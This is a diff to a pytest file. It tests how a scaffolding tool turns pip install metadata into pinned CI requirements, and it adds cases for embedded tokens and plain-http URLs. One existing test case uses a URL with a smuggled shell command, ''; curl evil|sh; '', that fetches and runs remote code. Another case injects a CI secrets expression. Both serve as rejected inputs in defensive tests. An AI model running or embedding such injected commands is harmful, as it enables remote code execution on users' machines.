@@ -53,9 +53,11 @@ def test_an_install_ci_can_repeat_gives_a_pinned_requirement(tmp_path: Path, dir
 @pytest.mark.parametrize(("direct_url", "says"), [
     pytest.param({"url": "file:///home/ana/src/gitdesk", "dir_info": {"editable": True}}, "editable install of the local folder file:///home/ana/src/gitdesk", id="editable"),
     pytest.param({"url": "file:///home/ana/src/gitdesk", "dir_info": {}}, "the local folder", id="local-folder"),
-    pytest.param({"url": "file:///tmp/gitdesk-0.2.0-py3-none-any.whl", "archive_info": {}}, "local file", id="local-wheel"),
-    pytest.param({"url": "file:///home/ana/src/gitdesk", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "local file", id="local-clone"),
-    pytest.param({"url": "https://ana:s3cret@git.example.org/gitdesk.git", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "password", id="password"),
+    pytest.param({"url": "file:///tmp/gitdesk-0.2.0-py3-none-any.whl", "archive_info": {}}, "local path file:///tmp/gitdesk-0.2.0-py3-none-any.whl", id="local-wheel"),
+    pytest.param({"url": "file:///home/ana/src/gitdesk", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "local path", id="local-clone"),
+    pytest.param({"url": "https://ana:s3cret@git.example.org/gitdesk.git", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "credentials", id="password"),
+    pytest.param({"url": "https://ghp_t0ken@github.com/acme/gitdesk.git", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "credentials", id="token-as-user"),
+    pytest.param({"url": "http://git.example.org/gitdesk.git", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "over http", id="plain-http"),
     pytest.param({"url": "https://x.org/g.git'; curl evil|sh; '", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "cannot be written safely", id="shell"),
     pytest.param({"url": "https://x.org/${{ secrets.TOKEN }}.git", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "cannot be written safely", id="expression"),
     pytest.param({"url": "https://x.org/g.git", "vcs_info": {"vcs": "git"}}, "without a commit", id="no-commit"),
@@ -66,7 +68,7 @@ def test_an_install_ci_cannot_repeat_gives_no_requirement_and_says_why(tmp_path:
     line = scaffold.install_line(dist_info(tmp_path, direct_url))
     assert line.requirement is None
     assert says in line.source
-    assert "s3cret" not in line.source
+    assert "s3cret" not in line.source and "t0ken" not in line.source
 
 
 def test_without_a_distribution_there_is_no_requirement() -> None:
@@ -89,7 +91,7 @@ def test_a_real_pip_install_from_a_local_wheel_is_refused_by_name(tmp_path: Path
     dist = metadata.PathDistribution(target / "gitdesk-0.4.0.dist-info")
     line = scaffold.install_line(dist)
     assert line.requirement is None
-    assert wheel.name in line.source and "local file" in line.source
+    assert wheel.name in line.source and "local path" in line.source
 
 
 def test_init_warns_loudly_and_the_workflows_carry_no_package(tmp_path: Path) -> None:
